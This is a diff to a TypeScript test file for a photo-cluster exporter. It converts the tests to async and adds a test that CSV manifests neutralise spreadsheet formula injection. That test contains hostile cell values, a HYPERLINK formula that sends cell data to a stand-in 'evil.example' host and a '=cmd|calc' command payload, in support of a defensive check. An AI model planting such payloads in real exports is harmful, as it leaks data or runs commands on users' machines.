@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
-import * as fs from 'node:fs';
+import * as fsp from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
@@ -66,9 +66,9 @@ function parseCsv(text: string): string[][] {
 }
 
 describe('exportClusters', () => {
-  it.each(['copy', 'hardlink', 'symlink'] as const)('round trip (%s): folders hold exactly the clustered photos, byte-identical; manifests list each once', (mode) => {
+  it.each(['copy', 'hardlink', 'symlink'] as const)('round trip (%s): folders hold exactly the clustered photos, byte-identical; manifests list each once', async (mode) => {
     const to = join(root, `out-${mode}`);
-    const r = exportClusters(input, to, mode);
+    const r = await exportClusters(input, to, mode);
     expect(r.exported).toBe(7);
     expect(r.missing).toEqual([]);
     const folders = readdirSync(to).filter((f) => lstatSync(join(to, f)).isDirectory()).sort();
@@ -102,13 +102,13 @@ describe('exportClusters', () => {
     expect(json.clusters.flatMap((c) => c.files.map((f) => f.path)).sort()).toEqual(exportedFiles.sort());
   });
 
-  it('a second export to the same folder overwrites nothing', () => {
+  it('a second export to the same folder overwrites nothing', async () => {
     const to = join(root, 'twice');
-    const first = exportClusters(input, to, 'copy');
+    const first = await exportClusters(input, to, 'copy');
     const before = new Map<string, string>();
     const walk = (d: string): string[] => readdirSync(d).flatMap((f) => (lstatSync(join(d, f)).isDirectory() ? walk(join(d, f)) : [join(d, f)]));
     for (const f of walk(to)) before.set(f, sha(f));
-    const second = exportClusters(input, to, 'copy');
+    const second = await exportClusters(input, to, 'copy');
     for (const [f, h] of before) expect(sha(f)).toBe(h);
     expect(second.manifest).toBe(join(to, 'clusters (2).csv'));
     expect(second.json).toBe(join(to, 'clusters (2).json'));
@@ -120,27 +120,27 @@ describe('exportClusters', () => {
     expect(walk(to).length).toBe(before.size * 2);
   });
 
-  it('manifest mode writes only the manifests, pointing at the photos in place', () => {
+  it('manifest mode writes only the manifests, pointing at the photos in place', async () => {
     const to = join(root, 'manifest-only');
-    const r = exportClusters(input, to, 'manifest');
+    const r = await exportClusters(input, to, 'manifest');
     expect(readdirSync(to).sort()).toEqual(['clusters.csv', 'clusters.json']);
     const body = parseCsv(readFileSync(r.manifest, 'utf8')).slice(1);
     expect(body.map((row) => row[0]).sort()).toEqual(photos.map((p) => p.path).sort());
   });
 
-  it('a full disk stops with a clear message and leaves no manifest, temporary or final', () => {
+  it('a full disk stops with a clear message and leaves no manifest, temporary or final', async () => {
     const to = join(root, 'full');
     let copies = 0;
     const io: ExportIo = {
-      ...fs,
-      copyFileSync: ((src: fs.PathLike, dst: fs.PathLike, mode?: number) => {
+      ...fsp,
+      copyFile: (async (src: string, dst: string, mode?: number) => {
         if (++copies > 4) throw Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' });
-        fs.copyFileSync(src, dst, mode);
-      }) as typeof fs.copyFileSync,
+        await fsp.copyFile(src, dst, mode);
+      }) as typeof fsp.copyFile,
     };
     let err: unknown;
     try {
-      exportClusters(input, to, 'copy', { io });
+      await exportClusters(input, to, 'copy', { io });
     } catch (e) {
       err = e;
     }
@@ -151,36 +151,56 @@ describe('exportClusters', () => {
     expect(names.filter((n) => n.includes('clusters'))).toEqual([]);
   });
 
-  it('a manifest write that fails half-way leaves no manifest', () => {
+  it('a manifest write that fails half-way leaves no manifest', async () => {
     const to = join(root, 'full-manifest');
     const io: ExportIo = {
-      ...fs,
-      writeFileSync: ((file: fs.PathOrFileDescriptor, data: string) => {
-        fs.writeFileSync(file, data.slice(0, 10));
+      ...fsp,
+      writeFile: (async (file: string, data: string) => {
+        await fsp.writeFile(file, data.slice(0, 10));
         throw Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' });
-      }) as typeof fs.writeFileSync,
+      }) as typeof fsp.writeFile,
     };
-    expect(() => exportClusters(input, to, 'hardlink', { io })).toThrow(/full/);
+    await expect(exportClusters(input, to, 'hardlink', { io })).rejects.toThrow(/full/);
     expect(readdirSync(to).filter((n) => n.includes('clusters'))).toEqual([]);
   });
 
-  it('an unwritable target stops with a clear message', () => {
+  it('an unwritable target stops with a clear message', async () => {
     const blocker = join(root, 'a-file');
     writeFileSync(blocker, 'x');
-    expect(() => exportClusters(input, join(blocker, 'sub'), 'copy')).toThrow(/Cannot export to|Cannot write to|file is in the way/);
+    await expect(exportClusters(input, join(blocker, 'sub'), 'copy')).rejects.toThrow(/Cannot export to|Cannot write to|file is in the way/);
     const io: ExportIo = {
-      ...fs,
-      mkdirSync: (() => {
+      ...fsp,
+      mkdir: (async () => {
         throw Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' });
-      }) as unknown as typeof fs.mkdirSync,
+      }) as unknown as typeof fsp.mkdir,
     };
-    expect(() => exportClusters(input, join(root, 'denied'), 'copy', { io })).toThrow(/permission denied/);
+    await expect(exportClusters(input, join(root, 'denied'), 'copy', { io })).rejects.toThrow(/permission denied/);
   });
 
-  it('skips and reports photos that vanished from disk', () => {
+  it('neutralises cells a spreadsheet would run as formulas (OWASP), and only text cells', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', 'plain'];
+    const hostile: ExportInput = {
+      ...input,
+      model: { id: 3, name: '=cmd|calc' },
+      clusters: names.map((name, i) => ({ id: i + 1, name, members: [{ ...photos[i]!, similarity: -0.25 }] })),
+    };
+    const r = await exportClusters(hostile, join(root, 'formulas'), 'manifest');
+    const body = parseCsv(readFileSync(r.manifest, 'utf8')).slice(1);
+    expect(body.map((row) => row[3])).toEqual(names.map((n) => (n === 'plain' ? n : `'${n}`)));
+    for (const row of body) {
+      expect(row[6]).toBe("'=cmd|calc");
+      // a negative number is a number, not a formula
+      expect(row[5]).toBe('-0.250000');
+      for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
+    }
+    // the JSON keeps the names as they are: it is data, not a sheet
+    expect((JSON.parse(readFileSync(r.json, 'utf8')) as { clusters: { name: string }[] }).clusters[0]!.name).toBe(names[0]);
+  });
+
+  it('skips and reports photos that vanished from disk', async () => {
     const gone = join(root, 'src', 'gone.jpg');
     const to = join(root, 'with-missing');
-    const r = exportClusters({ ...input, clusters: [{ id: 1, name: 'x', members: [{ imageId: 99, path: gone, similarity: 1 }, { ...photos[0]!, similarity: 1 }] }] }, to, 'symlink');
+    const r = await exportClusters({ ...input, clusters: [{ id: 1, name: 'x', members: [{ imageId: 99, path: gone, similarity: 1 }, { ...photos[0]!, similarity: 1 }] }] }, to, 'symlink');
     expect(r.exported).toBe(1);
     expect(r.missing).toEqual([gone]);
     expect(existsSync(join(to, 'x', 'gone.jpg'))).toBe(false);
